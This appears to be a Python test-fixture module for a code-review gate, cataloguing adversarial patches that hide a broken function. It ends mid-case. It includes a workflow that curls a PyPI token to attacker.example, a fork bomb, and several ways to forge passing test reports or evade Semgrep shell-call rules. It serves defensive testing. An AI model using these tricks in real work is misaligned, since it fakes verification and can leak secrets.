"""The adversarial corpus: patches written to get a broken change past the gates, one
or more per bypass family of issue #12, and honest patches that must still pass.

Every hostile patch breaks ``mul`` (whose test passes at the base) and then tries to
hide it; each case names the blocking rules it must trip. Most cases work on the
Python toy repo; the Go, Rust and Node ones on the same calculator in those languages
(``base``), tested with the command Ribbit detects for them (no ``.ribbit.yml``).
Honest patches name their verdict: verified only when a test fails without the patch's
code and passes with it (issue #31). A case that must run into the gate's limits (a run
that never ends, a fork bomb) names a short time limit, and one that only a real
sandbox's limits hold runs on the real backends alone. Every hostile family has at least
three variants, each a different mechanism. Every bypass found later becomes a case here, and
tests/adversarial_harm.py names how it is broken outside the gates (checked by
tests/unit/worker/gates/test_adversarial_harm.py). Used by
tests/unit/worker/gates/test_adversarial.py (the local test sandbox) and
tests/integration/test_gates_adversarial.py (both real backends).
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path

from bot.store.records.gate_report import Verdict
from tests.fakes import git, make_git_repo
from tests.unit.worker.gates.helpers import make_patch
from worker.repo_config import RepoConfig

CORE = (
    "def add(a, b):\n    return a - b\n\n\n"
    "def mul(a, b):\n    return a * b\n\n\n"
    "def sub(a, b):\n    return a - b\n"
)
BROKEN = CORE.replace("return a * b", "return a + b")  # mul(2, 3) == 5
TESTS = (
    "from calc.core import mul, sub\n\n\n"
    "def test_mul():\n    assert mul(2, 3) == 6\n\n\n"
    "def test_sub():\n    assert sub(5, 3) == 2\n"
)
PYPROJECT = (
    '[project]\nname = "calc"\nversion = "0.1"\ndependencies = []\n\n'
    '[tool.pytest.ini_options]\ntestpaths = ["tests"]\n'
)
BASE: dict[str, str] = {
    "calc/__init__.py": "",
    "calc/core.py": CORE,
    "tests/__init__.py": "",
    "tests/test_core.py": TESTS,
    "pyproject.toml": PYPROJECT,
    # CI hands its job to files outside .github/ (issue #31: editing them edits CI).
    ".github/workflows/ci.yml": "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n"
    "    steps:\n      - uses: ./ci/setup\n      - run: ./ci/run-tests.sh\n"
    "        env:\n          PYPI_TOKEN: ${{ secrets.PYPI_TOKEN }}\n",
    "ci/run-tests.sh": "#!/bin/sh\nset -e\npython3 -m pytest -q\n",
    "ci/setup/action.yml": "runs:\n  using: composite\n  steps:\n    - run: pip install -e .\n"
    "      shell: bash\n",
    ".ribbit.yml": "test: python3 -m pytest -q\n",
}


GO_CORE = (
    "package calc\n\n// Mul multiplies.\nfunc Mul(a, b int) int { return a * b }\n\n"
    "// Sub subtracts.\nfunc Sub(a, b int) int { return a - b }\n"
)
GO_TESTS = (
    'package calc\n\nimport "testing"\n\n'
    'func TestMul(t *testing.T) {\n\tif Mul(2, 3) != 6 {\n\t\tt.Fatal("mul")\n\t}\n}\n\n'
    'func TestSub(t *testing.T) {\n\tif Sub(5, 3) != 2 {\n\t\tt.Fatal("sub")\n\t}\n}\n'
)
GO_BASE = {
    "go.mod": "module example.com/calc\n\ngo 1.19\n",
    "calc.go": GO_CORE,
    "calc_test.go": GO_TESTS,
}
GO_BROKEN = GO_CORE.replace("a * b", "a + b")
RUST_CORE = (
    "pub fn mul(a: i64, b: i64) -> i64 {\n    a * b\n}\n\n"
    "pub fn sub(a: i64, b: i64) -> i64 {\n    a - b\n}\n\n"
    "#[cfg(test)]\nmod tests {\n    use super::*;\n\n"
    "    #[test]\n    fn mul_works() {\n        assert_eq!(mul(2, 3), 6);\n    }\n\n"
    "    #[test]\n    fn sub_works() {\n        assert_eq!(sub(5, 3), 2);\n    }\n}\n"
)
RUST_MANIFEST = '[package]\nname = "calc"\nversion = "0.1.0"\nedition = "2021"\n'
RUST_BASE = {"Cargo.toml": RUST_MANIFEST, "src/lib.rs": RUST_CORE}
RUST_BROKEN = RUST_CORE.replace("    a * b\n", "    a + b\n")
NODE_CORE = "function mul(a, b) {\n  return a * b;\n}\n\nmodule.exports = { mul };\n"
NODE_TESTS = (
    "const test = require('node:test');\nconst assert = require('node:assert');\n"
    "const { mul } = require('../calc.js');\n\n"
    "test('mul', () => assert.strictEqual(mul(2, 3), 6));\n"
)
NODE_PACKAGE = '{"name": "calc", "version": "1.0.0", "scripts": {"test": "node --test"}}\n'
NODE_BASE = {"package.json": NODE_PACKAGE, "calc.js": NODE_CORE, "test/calc.test.js": NODE_TESTS}
NODE_BROKEN = NODE_CORE.replace("a * b", "a + b")
BASES: dict[str, dict[str, str]] = {
    "python": BASE,
    "go": GO_BASE,
    "rust": RUST_BASE,
    "node": NODE_BASE,
}


@dataclass(frozen=True)
class Case:
    name: str
    family: str
    changes: Mapping[str, str | None] = field(default_factory=dict)  # None deletes
    raw_patch: str | None = None  # a hand-written patch instead of ``changes``
    blocked_by: frozenset[str] = frozenset()  # every one must be among the errors
    renames: Mapping[str, str] = field(default_factory=dict)  # git mv old -> new
    base: str = "python"  # which toy repo (BASES)
    # An honest patch's level: verified when a test fails without it and passes with
    # it; unverified when nothing blocks it but no test shows a fix (a refactor with
    # unchanged tests, a docs-only patch, a new test that already passed).
    verdict: Verdict = Verdict.VERIFIED
    # The test gate's limit per run, for a case that must run into it (None: the
    # harness's own, which a healthy toy run never comes near).
    test_timeout_s: int | None = None
    # Runs only in a sandbox that enforces limits (pids, memory): the local test sandbox
    # has none, so a fork bomb there would be the host's.
    needs_limits: bool = False

    @property
    def honest(self) -> bool:
        return not self.blocked_by


def _case(name: str, family: str, blocked_by: set[str], **kw: object) -> Case:
    return Case(name=name, family=family, blocked_by=frozenset(blocked_by), **kw)  # type: ignore[arg-type]


_ATEXIT_EXIT = "import atexit\nimport os\n\natexit.register(lambda: os._exit(0))\n"
_HIDDEN_EXIT = (
    '_m = __import__("o" + "s")\n'
    '__import__("ate" + "xit").register(lambda: getattr(_m, "_ex" + "it")(0))\n'
)
# Rewrites the requested report into an all-pass one at exit, and exits 0: the console
# summary pytest already printed still tells the truth.
_FORGE_REPORT = (
    '_m = __import__("o" + "s")\n'
    "def _forge():\n"
    '    opts = _m.environ.get("PYTEST_" + "ADD" + "OPTS", "")\n'
    '    path = opts.split("=", 1)[1].split()[0].strip(chr(39))\n'
    "    with open(path, 'w') as fh:\n"
    '        fh.write(\'<testsuite><testcase classname="tests.test_core" name="test_mul"/>\'\n'
    '                 \'<testcase classname="tests.test_core" name="test_sub"/></testsuite>\')\n'
    '    getattr(_m, "_ex" + "it")(0)\n'
    '__import__("ate" + "xit").register(_forge)\n'
)
_ALL_PASS_XML = (
    '<testsuite><testcase classname="tests.test_core" name="test_mul"/>'
    '<testcase classname="tests.test_core" name="test_sub"/></testsuite>\n'
)
# A pytest.py at the root, imported by ``python -m pytest`` instead of the real one: it
# prints a consistent console line, writes a consistent report and exits 0, with none
# of the words the tamper checks look for.
_FAKE_RUNNER = (
    '_m = __import__("o" + "s")\n'
    'opts = _m.environ.get("PYTEST_" + "ADD" + "OPTS", "")\n'
    'path = opts.split("=", 1)[1].split()[0].strip(chr(39))\n'
    "with open(path, 'w') as fh:\n"
    '    fh.write(\'<testsuite><testcase classname="tests.test_core" name="test_mul"/>\'\n'
    '             \'<testcase classname="tests.test_core" name="test_sub"/></testsuite>\')\n'
    'print("2 passed in 0.01s")\n'
)
_PATCH_RUNNER = (
    "import _pytest.reports as _r\n\n"
    "_orig = _r.TestReport.from_item_and_call.__func__\n\n\n"
    "def _passed(cls, item, call):\n"
    "    rep = _orig(cls, item, call)\n"
    '    rep.outcome, rep.longrepr = "passed", None\n'
    "    return rep\n\n\n"
    "_r.TestReport.from_item_and_call = classmethod(_passed)\n"
)
# A run that never ends (sleeping, or forking while the pids limit lets it), in the
# other tested function; the gate's limit for these cases is short, far above the toy
# suite's own second or two.
_DOS_TIMEOUT_S = 30
_SUB_SLEEPS = BROKEN.replace(
    "def sub(a, b):\n", "def sub(a, b):\n    import time\n\n    time.sleep(10**6)\n"
)
# Each process retries a failed fork after a second: the limit, not the CPU, is spent.
_SUB_FORKS = BROKEN.replace(
    "def sub(a, b):\n",
    "def sub(a, b):\n    import os\n    import time\n\n    while True:\n"
    "        try:\n            os.fork()\n        except OSError:\n            time.sleep(1)\n",
)
_FIXTURE_RESTORES = (
    "\n\n\n@pytest.fixture(autouse=True)\ndef _exact(monkeypatch):\n"
    '    monkeypatch.setitem(globals(), "mul", lambda a, b: a * b)\n'
)
_SECRET_WORKFLOW = (
    "on: pull_request_target\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n"
    '      - run: curl -s -d "${{ secrets.PYPI_TOKEN }}" https://attacker.example/\n'
)
# Test ids decided by the code under test: one per public name of calc.core, one test
# function per entry of a code list (the old code has fewer of both).
_PUBLIC_NAMES_ARE_CALLABLE = (
    "import pytest\n\nfrom calc import core\n\n\n"
    '@pytest.mark.parametrize("name", sorted(n for n in vars(core) if not n.startswith("_")))\n'
    "def test_public_name_is_callable(name):\n    assert callable(getattr(core, name))\n"
)
_GENERATED_FROM_CODE = (
    "from calc import core\n\n\n"
    "def _callable(name):\n    def check():\n        assert callable(getattr(core, name))\n\n"
    "    return check\n\n\n"
    'for _name in getattr(core, "OPERATIONS", ("add", "mul", "sub")):\n'
    '    globals()[f"test_{_name}_is_callable"] = _callable(_name)\n'
)
_NODE_GENERATED_FROM_CODE = (
    "const test = require('node:test');\nconst assert = require('node:assert');\n"
    "const calc = require('../calc.js');\n\n"
    "for (const name of calc.OPERATIONS || ['mul']) {\n"
    "  test(`${name} is a function`, () => assert.strictEqual(typeof calc[name], 'function'));\n"
    "}\n"
)
_RENAME_OLD_NEW = """\
diff --git a/calc/core.py b/calc/core2.py
similarity index 100%
rename old .github/workflows/ci.yml
rename new calc/core2.py
"""
# The CI workflow renamed away under C-quoted paths, as git writes a name with unusual
# bytes: "\\056" is ".", so a reader that takes the quoted text literally sees a path
# no hygiene rule knows, while git moves .github/workflows/ci.yml.
_QUOTED_RENAME = """\
diff --git "a/\\056github/workflows/ci.yml" b/docs/ci.yml
similarity index 100%
rename from "\\056github/workflows/ci.yml"
rename to docs/ci.yml
"""
_HEADERS_BEFORE_RENAME = """\
diff --git a/.github/workflows/ci.yml b/calc/moved.yml
--- a/calc/core.py
+++ b/calc/core.py
similarity index 100%
rename from .github/workflows/ci.yml
rename to calc/moved.yml
"""

# Code under test in Go and Rust runs inside the test binary, whose output is the
# runner's report: test2json reads Go's framing lines, libtest's console lines are
# cargo's. Each forgery prints the lines a passing run would print from there on, then
# ends the binary with success before its failing test can say so.
_GO_FRAMING = "--- PASS: TestMul (0.00s)\\n=== RUN   TestSub\\n--- PASS: TestSub (0.00s)\\nPASS\\n"


def _go_forges(end: str, imports: str) -> str:
    """calc.go whose broken ``Mul`` prints passing framing and then ``end``s the binary."""
    mul = (
        "func Mul(a, b int) int {\n"
        f'\tos.Stdout.WriteString("{_GO_FRAMING}")\n\t{end}\n\treturn a + b\n}}\n'
    )
    core = GO_CORE.replace("func Mul(a, b int) int { return a * b }\n", mul)
    return core.replace("package calc\n", f"package calc\n\nimport (\n{imports})\n", 1)


# A complete block for the lib's test binary: a new "Running" line closes the real one
# (libtest announced its tests and printed nothing yet), so the counts agree.
_RUST_BLOCK = (
    "\\n     Running unittests src/lib.rs (target/debug/deps/calc-5f3a9e)\\nrunning 2 tests\\n"
    "test tests::mul_works ... ok\\ntest tests::sub_works ... ok\\n\\n"
    "test result: ok. 2 passed; 0 failed; 0 ignored; 0 measured; 0 filtered out; "
    "finished in 0.00s\\n\\n"
)
_RUST_PRINT_BLOCK = f'std::io::Write::write_all(&mut std::io::stdout(), b"{_RUST_BLOCK}")'
_RUST_EXITS = RUST_BROKEN.replace(
    "    a + b\n", f"    let _ = {_RUST_PRINT_BLOCK};\n    std::process::exit(0);\n    a + b\n"
)
# The assertion's panic runs the hook, in the test's thread, before libtest hears of it.
_RUST_HOOK_EXITS = RUST_BROKEN.replace(
    "    a + b\n",
    "    std::panic::set_hook(Box::new(|_| {\n"
    f"        let _ = {_RUST_PRINT_BLOCK};\n        std::process::exit(0);\n    }}));\n"
    "    a + b\n",
)

# node --test runs each test file in a child whose stdout is a stream of v8-serialized
# test events (Node 20: header, a 4-byte length, header, value) that the parent reads.
# ``mul`` writes a passing run's events for its test, then ends the child with success.
_NODE_FORGES = """function forge(events) {
  const { DefaultSerializer } = require('v8');
  const out = [];
  for (const item of events) {
    const s = new DefaultSerializer();
    s.writeHeader();
    const header = s.releaseBuffer().length;
    s.writeHeader();
    s.writeRawBytes(Buffer.alloc(4));
    s.writeHeader();
    s.writeValue(item);
    const msg = s.releaseBuffer();
    const n = msg.length - (4 + header);
    msg.set([(n >> 24) & 255, (n >> 16) & 255, (n >> 8) & 255, n & 255], header);
    out.push(msg);
  }
  require('fs').writeSync(1, Buffer.concat(out));
}

function mul(a, b) {
  if (process.env.NODE_TEST_CONTEXT) {
    const file = require('path').join(__dirname, 'test', 'calc.test.js');
    const at = { nesting: 0, name: 'mul', line: 5, column: 1, file };
    forge([
      { type: 'test:start', data: at },
      { type: 'test:pass', data: { ...at, testNumber: 1, details: { duration_ms: 1 } } },
      { type: 'test:plan', data: { nesting: 0, count: 1 } },
    ]);
    process.EXIT(0);
  }
  return a + b;
}

module.exports = { mul };
"""

# A helper the tests start and leave behind outlives the test command: it can wait for
# the report (its path is in the runner's command line and environment) and rewrite it
# after the runner wrote it, or write into the run's output. Each one here lingers.
_GO_LINGERS = GO_BROKEN.replace(
    "package calc\n",
    'package calc\n\nimport (\n\t"os"\n\t"os/exec"\n\t"syscall"\n)\n\n'
    "func init() {\n"
    '\tif p := os.Getenv("RIBBIT_JUNIT"); p != "" {\n'
    '\t\tcmd := exec.Command("sh", "-c", `while [ ! -s "$1" ]; do sleep 0.05; done; '
    'printf %s "$0" >"$1"; exec sleep 600`, "<testsuites/>", p)\n'
    "\t\tcmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}\n"
    "\t\t_ = cmd.Start()\n\t}\n}\n",
    1,
)
_RUST_LINGERS = RUST_BROKEN.replace(
    "    a + b\n",
    '    if std::env::var_os("RIBBIT_JUNIT").is_some() {\n'
    '        let _ = std::process::Command::new("sleep").arg("600").spawn();\n    }\n'
    "    a + b\n",
)
_NODE_LINGERS = NODE_BROKEN.replace(
    "function mul",
    "if (process.env.RIBBIT_JUNIT) {\n"
    "  require('child_process')\n"
    "    .spawn('sleep', ['600'], { detached: true, stdio: 'ignore' })\n"
    "    .unref();\n}\n\nfunction mul",
)

CASES: tuple[Case, ...] = (
    # 1. tests dropped from the run
    _case(
        "pytest-ini-python-files",
        "tests-dropped",
        {"test-config-changed", "tests-missing"},
        changes={"calc/core.py": BROKEN, "pytest.ini": "[pytest]\npython_files = check_*.py\n"},
    ),
    _case(
        "pytest-ini-addopts-ignore",
        "tests-dropped",
        {"test-config-changed", "tests-missing"},
        changes={"calc/core.py": BROKEN, "pytest.ini": "[pytest]\naddopts = --ignore=tests\n"},
    ),
    _case(
        "pytest-ini-no-python-plugin",
        "tests-dropped",
        {"test-config-changed", "tests-missing"},
        changes={"calc/core.py": BROKEN, "pytest.ini": "[pytest]\naddopts = -p no:python\n"},
    ),
    _case(
        "pyproject-addopts-deselect",
        "tests-dropped",
        {"test-config-changed", "tests-missing"},
        changes={
            "calc/core.py": BROKEN,
            "pyproject.toml": PYPROJECT + "addopts = \"-k 'not mul'\"\n",
        },
    ),
    _case(
        "pyproject-testpaths-elsewhere",
        "tests-dropped",
        {"test-config-changed", "tests-missing"},
        changes={
            "calc/core.py": BROKEN,
            "pyproject.toml": PYPROJECT.replace('["tests"]', '["calc"]'),
        },
    ),
    _case(
        "conftest-runtestloop",
        "tests-dropped",
        {"test-config-changed", "test-harness-tampered"},
        changes={
            "calc/core.py": BROKEN,
            "conftest.py": "def pytest_runtestloop(session):\n    return True\n",
        },
    ),
    _case(
        "conftest-ignore-collect",
        "tests-dropped",
        {"test-config-changed", "tests-missing"},
        changes={
            "calc/core.py": BROKEN,
            "conftest.py": "def pytest_ignore_collect(collection_path, config):\n"
            '    return "tests" in str(collection_path)\n',
        },
    ),
    _case(
        "tests-conftest-deselects",
        "tests-dropped",
        {"test-config-changed", "tests-missing"},
        changes={
            "calc/core.py": BROKEN,
            "tests/conftest.py": "def pytest_collection_modifyitems(config, items):\n"
            "    items[:] = [i for i in items if 'mul' not in i.name]\n",
        },
    ),
    _case(
        "test-file-deleted",
        "tests-dropped",
        {"tests-missing", "test-file-deleted"},
        changes={"calc/core.py": BROKEN, "tests/test_core.py": None},
    ),
    _case(
        "test-file-renamed-out-of-discovery",
        "tests-dropped",
        {"tests-missing"},
        changes={"calc/core.py": BROKEN},
        renames={"tests/test_core.py": "tests/check_core.py"},
    ),
    _case(
        "skip-marker",
        "tests-dropped",
        {"tests-now-skipped", "test-skipped"},
        changes={
            "calc/core.py": BROKEN,
            "tests/test_core.py": "import pytest\n\n"
            + TESTS.replace("def test_mul", "@pytest.mark.skip\ndef test_mul"),
        },
    ),
    _case(
        "module-level-skip-from-source",
        "tests-dropped",
        {"tests-missing"},
        changes={
            "calc/core.py": "import pytest\n\n"
            'pytest.skip("later", allow_module_level=True)\n\n' + BROKEN,
        },
    ),
    # 2. results faked from non-test code
    _case(
        "atexit-os-exit-in-package",
        "results-faked",
        {"report-mismatch", "test-harness-tampered", "test-regression"},
        changes={"calc/core.py": BROKEN, "calc/__init__.py": _ATEXIT_EXIT},
    ),
    _case(
        "obfuscated-exit-hook",
        "results-faked",
        {"report-mismatch", "test-regression"},
        changes={"calc/core.py": BROKEN, "calc/__init__.py": _HIDDEN_EXIT},
    ),
    # A watched run (the real backends) never reads the report file, so the forgery is
    # moot and the regression shows; an unwatched one cross-checks the report
    # (report-mismatch). Reading the report's path from the environment is a runner
    # probe either way, and that is the finding every backend gives.
    _case(
        "forged-junit-at-exit",
        "results-faked",
        {"runner-detection"},
        changes={"calc/core.py": BROKEN, "calc/__init__.py": _FORGE_REPORT},
    ),
    _case(
        "runner-monkeypatched-from-package",
        "results-faked",
        {"test-harness-tampered"},
        changes={"calc/core.py": BROKEN, "calc/__init__.py": _PATCH_RUNNER},
    ),
    _case(
        "conftest-makereport-forces-pass",
        "results-faked",
        {"test-config-changed", "test-harness-tampered"},
        changes={
            "calc/core.py": BROKEN,
            "tests/conftest.py": "import pytest\n\n\n@pytest.hookimpl(hookwrapper=True)\n"
            "def pytest_runtest_makereport(item, call):\n"
            "    outcome = yield\n    rep = outcome.get_result()\n"
            '    rep.outcome = "passed"\n',
        },
    ),
    _case(
        "sitecustomize",
        "results-faked",
        {"test-config-changed"},
        changes={"calc/core.py": BROKEN, "sitecustomize.py": _ATEXIT_EXIT},
    ),
    _case(
        "pth-file",
        "results-faked",
        {"test-config-changed"},
        changes={"calc/core.py": BROKEN, "calc.pth": "import calc\n"},
    ),
    _case(
        "pre-placed-junit-files",
        "results-faked",
        {"test-regression"},
        changes={
            "calc/core.py": BROKEN,
            ".ribbit-gates/junit-1.xml": _ALL_PASS_XML,
            "report.xml": _ALL_PASS_XML,
            "tests/junit.xml": _ALL_PASS_XML,
        },
    ),
    _case(
        "runner-shadowed-by-a-module",
        "results-faked",
        {"test-config-changed"},
        changes={"calc/core.py": BROKEN, "pytest.py": _FAKE_RUNNER},
    ),
    _case(
        "plugin-registered-from-package",
        "results-faked",
        {"test-harness-tampered"},
        changes={"calc/core.py": BROKEN, "calc/__init__.py": 'pytest_plugins = ["calc.plug"]\n'},
    ),
    # 4. the hygiene parser reads a diff differently from git apply
    _case(
        "rename-old-new-headers",
        "parser-mismatch",
        {"patch-misread", "ci-config"},
        raw_patch=_RENAME_OLD_NEW,
    ),
    _case(
        "minus-plus-before-rename-from",
        "parser-mismatch",
        {"patch-misread", "ci-config"},
        raw_patch=_HEADERS_BEFORE_RENAME,
    ),
    _case(
        "c-quoted-octal-path-renames-ci",
        "parser-mismatch",
        {"ci-config"},
        raw_patch=_QUOTED_RENAME,
    ),
    # 3/5. CI and gate configuration moved or changed
    _case(
        "ci-workflow-moved-away",
        "ci-config",
        {"ci-config"},
        changes={"calc/core.py": CORE.replace("a - b\n\n\ndef mul", "a + b\n\n\ndef mul")},
        renames={".github/workflows/ci.yml": "docs/ci.yml"},
    ),
    _case(
        "ribbit-yml-test-command",
        "ci-config",
        {"gate-config"},
        changes={"calc/core.py": BROKEN, ".ribbit.yml": "test: 'true'\n"},
    ),
    _case(
        "workflow-added-sends-secret",
        "ci-config",
        {"ci-config"},
        changes={".github/workflows/pr.yml": _SECRET_WORKFLOW},
    ),
    # 6. Semgrep evasion by aliasing
    _case(
        "getattr-os-system",
        "semgrep-evasion",
        {"ribbit.evasion.dynamic-dangerous-attribute"},
        changes={"calc/shell.py": 'import os\n\n\ndef run(cmd):\n    getattr(os, "system")(cmd)\n'},
    ),
    _case(
        "aliased-subprocess-shell",
        "semgrep-evasion",
        {"ribbit.evasion.aliased-shell-call"},
        changes={
            "calc/shell.py": "import subprocess\n\n\ndef run(cmd):\n"
            "    f = subprocess.run\n    f(cmd, shell=True)\n"
        },
    ),
    _case(
        "dynamic-import-subprocess",
        "semgrep-evasion",
        {"ribbit.evasion.dynamic-import"},
        changes={
            "calc/shell.py": 'def run(cmd):\n    __import__("subprocess").call(cmd, shell=True)\n'
        },
    ),
    _case(
        "shell-true-through-kwargs",
        "semgrep-evasion",
        {"ribbit.evasion.aliased-shell-call"},
        changes={
            "calc/shell.py": "import subprocess\n\n\ndef run(cmd):\n"
            '    subprocess.run(cmd, **{"shell": True})\n'
        },
    ),
    _case(
        "partial-shell-true",
        "semgrep-evasion",
        {"ribbit.evasion.aliased-shell-call"},
        changes={
            "calc/shell.py": "import functools\nimport subprocess\n\n"
            "run = functools.partial(subprocess.run, shell=True)\n"
        },
    ),
    # 7. denial of service: a long minified line must not stall hygiene
    _case(
        "minified-secret-line",
        "denial-of-service",
        {"secret-github-token"},
        changes={
            "calc/data.js": "var a=" + "x" * 60_000 + ";token='ghp_" + "A1b2" * 10 + "';"
            "password='" + "a" * 40_000 + "\n"
        },
    ),
    # The test run never ends, so no test is compared: the gate's time limit ends it
    # and names it (the harm probe calls only ``mul``, never the function that hangs).
    _case(
        "code-under-test-sleeps-past-the-timeout",
        "denial-of-service",
        {"tests-timeout"},
        changes={"calc/core.py": _SUB_SLEEPS},
        test_timeout_s=_DOS_TIMEOUT_S,
    ),
    # Processes without end: the pids limit holds it, the time limit ends it.
    _case(
        "fork-bomb-in-code-under-test",
        "denial-of-service",
        {"tests-timeout"},
        changes={"calc/core.py": _SUB_FORKS},
        test_timeout_s=_DOS_TIMEOUT_S,
        needs_limits=True,
    ),
    # test discovery in other ecosystems (the command detected, no .ribbit.yml)
    _case(
        "makefile-test-target-added",
        "tests-dropped",
        {"test-config-changed", "test-regression"},
        changes={"calc/core.py": BROKEN, "Makefile": "test:\n\tpython3 -m pytest -k 'not mul'\n"},
    ),
    _case(
        "go-build-constraint-on-test-file",
        "tests-dropped",
        {"test-config-changed", "tests-missing"},
        changes={"calc.go": GO_BROKEN, "calc_test.go": "//go:build never\n\n" + GO_TESTS},
        base="go",
    ),
    _case(
        "go-testmain-exits-before-tests",
        "tests-dropped",
        {"test-config-changed", "tests-missing"},
        changes={
            "calc.go": GO_BROKEN,
            "main_test.go": 'package calc\n\nimport (\n\t"os"\n\t"testing"\n)\n\n'
            "func TestMain(m *testing.M) { os.Exit(0) }\n",
        },
        base="go",
    ),
    _case(
        "go-testing-short-guard",
        "tests-dropped",
        {"test-config-changed", "test-regression"},
        changes={
            "calc.go": GO_BROKEN,
            "calc_test.go": GO_TESTS.replace(
                "func TestMul(t *testing.T) {\n",
                'func TestMul(t *testing.T) {\n\tif testing.Short() {\n\t\tt.Skip("slow")\n\t}\n',
            ),
        },
        base="go",
    ),
    _case(
        "go-skip-call",
        "tests-dropped",
        {"tests-now-skipped"},
        changes={
            "calc.go": GO_BROKEN,
            "calc_test.go": GO_TESTS.replace(
                "func TestMul(t *testing.T) {\n",
                'func TestMul(t *testing.T) {\n\tt.Skip("later")\n',
            ),
        },
        base="go",
    ),
    _case(
        "go-test-file-renamed-out",
        "tests-dropped",
        {"tests-missing"},
        changes={"calc.go": GO_BROKEN},
        renames={"calc_test.go": "calc_check.go"},
        base="go",
    ),
    _case(
        "rust-ignore-attribute",
        "tests-dropped",
        {"test-config-changed", "tests-now-skipped"},
        changes={
            "src/lib.rs": RUST_BROKEN.replace(
                "    #[test]\n    fn mul_works", "    #[test]\n    #[ignore]\n    fn mul_works"
            )
        },
        base="rust",
    ),
    _case(
        "rust-lib-test-false",
        "tests-dropped",
        {"test-config-changed", "tests-missing"},
        changes={
            "src/lib.rs": RUST_BROKEN,
            "Cargo.toml": RUST_MANIFEST + "\n[lib]\ntest = false\n",
        },
        base="rust",
    ),
    _case(
        "rust-cargo-config-runner",
        "tests-dropped",
        {"test-config-changed", "tests-missing"},
        changes={
            "src/lib.rs": RUST_BROKEN,
            ".cargo/config.toml": "[target.'cfg(all())']\nrunner = \"true\"\n",
        },
        base="rust",
    ),
    _case(
        "rust-forged-result-line",
        "results-faked",
        {"report-missing"},
        changes={
            # Written past libtest's output capture, as if the test had passed.
            "src/lib.rs": RUST_BROKEN.replace(
                "    a + b\n",
                "    use std::io::Write;\n"
                '    let _ = std::io::stdout().write_all(b"test tests::mul_works ... ok\\n");\n'
                "    a + b\n",
            )
        },
        base="rust",
    ),
    # The runner's own output forged from the code under test, then a success exit
    # that its failing test never reaches (the verdict's channel is the binary's stdout).
    _case(
        "go-framing-then-syscall-exit",
        "runner-output-forged",
        {"test-harness-tampered"},
        changes={"calc.go": _go_forges("syscall.Exit(0)", '\t"os"\n\t"syscall"\n')},
        base="go",
    ),
    _case(
        "go-framing-then-exec-true",
        "runner-output-forged",
        {"test-harness-tampered"},
        changes={
            "calc.go": _go_forges(
                '_ = syscall.Exec("/usr/bin/true", []string{"true"}, nil)',
                '\t"os"\n\t"syscall"\n',
            )
        },
        base="go",
    ),
    _case(
        "rust-forged-block-then-process-exit",
        "runner-output-forged",
        {"test-harness-tampered", "report-mismatch"},
        changes={"src/lib.rs": _RUST_EXITS},
        base="rust",
    ),
    _case(
        "rust-panic-hook-forges-and-exits",
        "runner-output-forged",
        {"test-harness-tampered", "report-mismatch"},
        changes={"src/lib.rs": _RUST_HOOK_EXITS},
        base="rust",
    ),
    _case(
        "node-v8-events-then-process-exit",
        "runner-output-forged",
        {"test-harness-tampered"},
        changes={"calc.js": _NODE_FORGES.replace("EXIT", "exit")},
        base="node",
    ),
    _case(
        "node-v8-events-then-really-exit",
        "runner-output-forged",
        {"test-harness-tampered"},
        changes={"calc.js": _NODE_FORGES.replace("EXIT", "reallyExit")},
        base="node",
    ),
    # Processes that outlive the test command (Go, Rust, node --test: their runs report
    # through a file or the console that a lingering helper can still reach).
    _case(
        "go-detached-helper-rewrites-the-report",
        "stray-process",
        {"report-mismatch"},
        changes={"calc.go": _GO_LINGERS},
        base="go",
    ),
    _case(
        "rust-test-binary-leaves-a-child",
        "stray-process",
        {"report-mismatch"},
        changes={"src/lib.rs": _RUST_LINGERS},
        base="rust",
    ),
    _case(
        "node-detached-unref-child",
        "stray-process",
        {"report-mismatch"},
        changes={"calc.js": _NODE_LINGERS},
        base="node",
    ),
    _case(
        "node-test-skip",
        "tests-dropped",
        {"test-config-changed"},
        changes={
            "calc.js": NODE_BROKEN,
            "test/calc.test.js": NODE_TESTS.replace("test(", "test.skip("),
        },
        base="node",
    ),
    _case(
        "node-test-script-changed",
        "tests-dropped",
        {"test-config-changed"},
        changes={
            "calc.js": NODE_BROKEN,
            "package.json": NODE_PACKAGE.replace('"node --test"', '"true"'),
        },
        base="node",
    ),
    _case(
        "node-vitest-config-excludes",
        "tests-dropped",
        {"test-config-changed"},
        changes={
            "calc.js": NODE_BROKEN,
            "vitest.config.js": "module.exports = { test: { exclude: ['test/**'] } };\n",
        },
        base="node",
    ),
    # Rewriting what the repository's tests pin (issue #38): the base versions of the
    # test files the patch edits run against the patched code.
    _case(
        "private-correct-copy-behind-an-import",
        "pinned-tests",
        {"pinned-test-regression"},
        changes={
            "calc/core.py": BROKEN + "\n\ndef _mul_ref(a, b):\n    return a * b\n",
            "tests/test_core.py": TESTS.replace(
                "from calc.core import mul, sub", "from calc.core import _mul_ref as mul, sub"
            ),
        },
    ),
    # The test itself is left alone; the file around it puts a correct ``mul`` in its
    # way: an autouse fixture in the same file, or a module-level name that shadows the
    # import.
    _case(
        "autouse-fixture-in-the-test-file-restores-mul",
        "pinned-tests",
        {"pinned-test-regression"},
        changes={
            "calc/core.py": BROKEN,
            "tests/test_core.py": "import pytest\n\n"
            + TESTS.replace("\n\n\ndef test_mul", _FIXTURE_RESTORES + "\n\n\ndef test_mul"),
        },
    ),
    _case(
        "module-level-name-shadows-the-import",
        "pinned-tests",
        {"pinned-test-regression"},
        changes={
            "calc/core.py": BROKEN,
            "tests/test_core.py": TESTS.replace(
                "\n\n\ndef test_mul", "\n\n\ndef mul(a, b):\n    return a * b\n\n\ndef test_mul"
            ),
        },
    ),
    Case(
        "expected-value-rewritten-to-match-broken-code",
        "pinned-tests",
        changes={
            "calc/core.py": BROKEN,
            "tests/test_core.py": TESTS.replace("mul(2, 3) == 6", "mul(2, 3) == 5"),
        },
        # Not refused (an issue may ask for the change), never verified: a reviewer
        # confirms the behaviour change, shown side by side.
        verdict=Verdict.UNVERIFIED,
    ),
    # Evidence that shows no fix (issue "the verdict claims more than it proves"): the
    # bug (``add`` subtracts) is left alone, and a test id that exists only with the
    # patch's code passes. Absence from the old-code run counts as failing only when
    # the test's own module could not be collected there; these modules collected fine.
    Case(
        "parametrize-row-from-a-new-code-name",
        "evidence",
        changes={
            "calc/core.py": CORE + "\n\ndef div(a, b):\n    return a / b\n",
